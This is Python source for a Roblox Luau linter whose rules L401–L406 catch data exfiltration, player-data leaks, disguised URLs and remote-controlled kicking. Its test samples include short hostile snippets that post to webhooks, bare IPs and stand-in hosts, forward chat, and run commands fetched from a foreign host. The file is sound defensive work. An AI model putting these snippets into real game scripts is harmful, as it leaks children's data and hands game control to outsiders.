"""L4xx: what leaves the game, and where it goes."""

from collections.abc import Iterator, Sequence
from typing import Final, cast

from toolbox_cli.content.luau.analysis import Allowed, Script
from toolbox_cli.content.luau.meaning.taint import CHAT, HTTP, PERSON, REMOTE, TYPED
from toolbox_cli.content.luau.questions import urls
from toolbox_cli.content.luau.questions.decoders import is_decoded
from toolbox_cli.content.luau.reading import nodes
from toolbox_cli.content.luau.reading.nodes import Node
from toolbox_cli.content.luau.rule import Hit, Rule, Sample, Tier, hit, samples
from toolbox_cli.content.luau.rules.loading import OUTSIDE


def _foreign(script: Script, url: Node | None) -> set[str]:
    return {host for host in urls.hosts(script, url) if not urls.is_allowed(script, host)}


def _drops(script: Script) -> Iterator[Hit]:
    for called, url, _ in urls.sent(script):
        for host in sorted(_foreign(script, url)):
            if urls.is_below(host, urls.DROPS) or urls.is_number(host):
                yield hit(called.node, f"{called.name} to {host}")


def _others(script: Script) -> Iterator[Hit]:
    for called, url, _ in urls.sent(script):
        for host in sorted(_foreign(script, url)):
            if not (urls.is_below(host, urls.DROPS) or urls.is_number(host)):
                yield hit(called.node, f"{called.name} to {host}")


def _unknown(script: Script) -> Iterator[Hit]:
    for called, url, _ in urls.sent(script):
        if not urls.hosts(script, url) and not _chosen(script, url):
            yield hit(called.node, f"{called.name} to an address that the script does not show")


def _chosen(script: Script, url: Node | None) -> str | None:
    """Say who decides on an address, where that is not the script."""
    if url is not None and _is_disguised(script, url):
        return "letters that the script puts together"
    if url is None or urls.hosts(script, url):
        return None
    if is_decoded(script, url):
        return "a decoded text"
    kinds = script.taint.kinds(url)
    return next((told for kind, told in OUTSIDE.items() if kind in kinds), None)


def _is_disguised(script: Script, url: Node) -> bool:
    """Tell whether an address is turned round, or made of the numbers of its letters."""
    waiting, seen = [url], {url}
    while waiting and len(seen) < _STEPS:
        for one in waiting.pop().walk():
            if isinstance(one, nodes.Call):
                name = str(nodes.key_of(one) or "")
                if name == "reverse" or script.folder.path(one.callee) in (
                    "string.char",
                    "utf8.char",
                    "string.reverse",
                ):
                    return True
            if isinstance(one, nodes.Name) and one.symbol is not None:
                values = {each.value for each in one.symbol.definitions if each.value is not None} - seen
                further = {each for each in values if not isinstance(each, nodes.Function)}
                seen |= further
                waiting.extend(further)
    return False


def _orders(script: Script) -> Iterator[Hit]:
    """Find what is done to whatever a foreign host names."""
    if not any(_foreign(script, url) or not urls.hosts(script, url) for _, url, _ in urls.sent(script)):
        return
    for called in script.calls:
        if called.name in _DONE and called.receiver is not None and HTTP in script.taint.kinds(called.receiver):
            yield hit(called.node, f"{called.name} of what a foreign host names")
    for call in script.all(nodes.Call):
        callee = call.callee
        if isinstance(callee, nodes.Index) and not callee.dotted and HTTP in script.taint.kinds(callee.key):
            yield hit(call, "a call of what a foreign host names")


def _elsewhere(script: Script) -> Iterator[Hit]:
    for called, url, _ in urls.sent(script):
        told = _chosen(script, url)
        if told:
            yield hit(called.node, f"{called.name} to {told}")


def _personal(script: Script) -> Iterator[Hit]:
    names = {PERSON: "who plays", CHAT: "what players write", TYPED: "what players type", REMOTE: "what clients send"}
    for called, url, body in urls.sent(script):
        hosts = urls.hosts(script, url)
        if hosts and not _foreign(script, url):
            continue
        parts = [*body, *([url] if url is not None else [])]
        kinds = {kind for part in parts for kind in _all_kinds(script, part)}
        told = [name for kind, name in names.items() if kind in kinds and kind != REMOTE]
        if told:
            yield hit(called.node, f"{called.name} of {' and '.join(told)}")


def _all_kinds(script: Script, node: Node) -> set[str]:
    """Give the origins of everything in what is sent, also of what was put into a table before."""
    found = set(script.taint.kinds(node))
    waiting, seen = [node], {node}
    while waiting:
        for one in waiting.pop().walk():
            found |= script.taint.kinds(one)
            if isinstance(one, nodes.Name) and one.symbol is not None:
                found |= {
                    kind
                    for values in one.symbol.fields.values()
                    for part in values
                    for kind in script.taint.kinds(part)
                }
                found |= _put_in(script, one)
                others = {each.value for each in one.symbol.definitions if isinstance(each.value, nodes.Name)} - seen
                seen |= others
                waiting.extend(others)
    return found


def _put_in(script: Script, name: nodes.Name) -> set[str]:
    """Give the origins of what is inserted into a list, or assigned to it by a key."""
    known = script.noted.setdefault("put in", {})
    if name.symbol not in known:
        given = (part for read in name.symbol.reads for one in _given(script, read) for part in one.walk())
        known[name.symbol] = {kind for part in given for kind in script.taint.kinds(part)}
    return cast(set[str], known[name.symbol])


def _given(script: Script, read: nodes.Name) -> Sequence[Node]:
    parent = read.parent
    if isinstance(parent, nodes.Call) and script.folder.path(parent.callee) == "table.insert":
        return parent.arguments[1:]
    is_target = isinstance(parent, nodes.Index) and parent.base is read and isinstance(parent.parent, nodes.Assign)
    return parent.parent.values if is_target and parent is not None and isinstance(parent.parent, nodes.Assign) else []


_STEPS: Final = 60
_DONE: Final = frozenset(("Kick", "Ban", "BanAsync", "Destroy", "Remove", "ClearAllChildren", "BreakJoints"))

_HEAD: Final = "local http = game:GetService('HttpService')\n"
_OURS: Final = Allowed(hosts=frozenset(("api.school.example",)))

RULES: Final = (
    Rule(
        "L401",
        "Data goes to a drop: a webhook, a paste site, a proxy, a bare address",
        Tier.DENY,
        "Whoever holds such an address stays unknown, and what arrives there is out of everybody's control.",
        "Send to a host of your own, and have it allowed.",
        samples(
            _HEAD + "http:PostAsync('https://discord.com/api/webhooks/1/abc', 'started')",
            _HEAD + "http:RequestAsync({ Url = 'http://203.0.113.9:8080/', Method = 'POST', Body = game.JobId })",
            _HEAD + "local base = 'https://webhook.site/' .. game.PlaceId\npcall(http.GetAsync, http, base)",
        ),
        (
            *samples("local hosts = { 'discord.com', 'webhook.site' }\nprint(#hosts)"),
            Sample(_HEAD + "http:PostAsync('https://api.school.example/scores', '1')", allowed=_OURS),
        ),
        _drops,
    ),
    Rule(
        "L402",
        "Data goes to a host that nobody allowed",
        Tier.REVIEW,
        "What leaves a game for children is looked at first.",
        "Have the host allowed with --allow-host.",
        samples(
            _HEAD + "print(http:GetAsync('https://api.example.org/facts'))",
            _HEAD + "http:RequestAsync({ Url = 'https://' .. 'stats.example.net' .. '/v1' })",
        ),
        (
            Sample(_HEAD + "print(http:GetAsync('https://api.school.example/facts'))", allowed=_OURS),
            *samples(_HEAD + "print(http:JSONEncode({ 1, 2 }), http:GenerateGUID())"),
        ),
        _others,
    ),
    Rule(
        "L403",
        "Data goes to an address that the script does not show",
        Tier.REVIEW,
        "Where it goes can't be looked at, and can change.",
        "Write the host into the script; what follows it may change.",
        samples(
            _HEAD + "http:PostAsync(settings.url, 'a')",
            _HEAD + "local function ask(url)\n\treturn http:GetAsync(url)\nend",
        ),
        (
            Sample(_HEAD + "print(http:GetAsync('https://api.school.example/' .. topic))", allowed=_OURS),
            *samples("local store = game:GetService('DataStoreService'):GetDataStore('A')\nprint(store:GetAsync(key))"),
        ),
        _unknown,
    ),
    Rule(
        "L404",
        "Somebody else chooses where data goes",
        Tier.DENY,
        "A client, a product's description or a decoded text decides on the address.",
        "Write the host into the script.",
        samples(
            _HEAD + "remote.OnServerEvent:Connect(function(player, url)\n\thttp:GetAsync(url)\nend)",
            _HEAD + "http:PostAsync(script:GetAttribute('Target'), 'a')",
        )
        + samples(
            _HEAD + "http:GetAsync(('x/elpmaxe.live//:sptth'):reverse())",
            also="L402",
        ),
        (
            Sample(
                _HEAD + "http:PostAsync('https://api.school.example/' .. script:GetAttribute('Page'), 'a')",
                allowed=_OURS,
            ),
            *samples("print(script:GetAttribute('Target'))"),
        ),
        _elsewhere,
    ),
    Rule(
        "L405",
        "Who plays, or what players write, is sent outside",
        Tier.DENY,
        "Names, ids and words of children leave the platform without anybody's consent.",
        "Keep them in data stores; if they must go out, to a host that was looked at and allowed.",
        samples(
            _HEAD + "game.Players.PlayerAdded:Connect(function(player)\n"
            "\thttp:PostAsync('https://stats.example.net/join', http:JSONEncode({ name = player.Name }))\nend)",
            also="L402",
        )
        + samples(
            _HEAD + "game.Players.PlayerAdded:Connect(function(player)\n\tplayer.Chatted:Connect(function(message)\n"
            "\t\thttp:PostAsync(url, message)\n\tend)\nend)",
            also="L403",
        ),
        (
            Sample(
                _HEAD + "game.Players.PlayerAdded:Connect(function(player)\n"
                "\thttp:PostAsync('https://api.school.example/join', tostring(player.UserId))\nend)",
                allowed=_OURS,
            ),
            *samples("game.Players.PlayerAdded:Connect(function(player)\n\tprint(player.Name)\nend)"),
        ),
        _personal,
    ),
    Rule(
        "L406",
        "A foreign host gives orders",
        Tier.DENY,
        "Whoever runs that host decides who is thrown out, what goes, and what is called.",
        "Let the script decide; take numbers and texts from hosts that were looked at, and check them.",
        samples(
            _HEAD
            + "local names = http:JSONDecode(http:GetAsync('https://cmd.example/list'))\nfor _, name in names do\n"
            "\tlocal player = game.Players:FindFirstChild(name)\n\tif player then\n\t\tplayer:Kick()\n\tend\nend",
            _HEAD
            + "local order = http:JSONDecode(http:GetAsync('https://cmd.example/next'))\nactions[order.name](order)",
            also="L402",
        ),
        (
            Sample(
                _HEAD
                + "local tips = http:JSONDecode(http:GetAsync('https://api.school.example/tips'))\nprint(tips[1])",
                allowed=_OURS,
            ),
            *samples("local name = script.Name\nactions[name]()"),
        ),
        _orders,
    ),
)
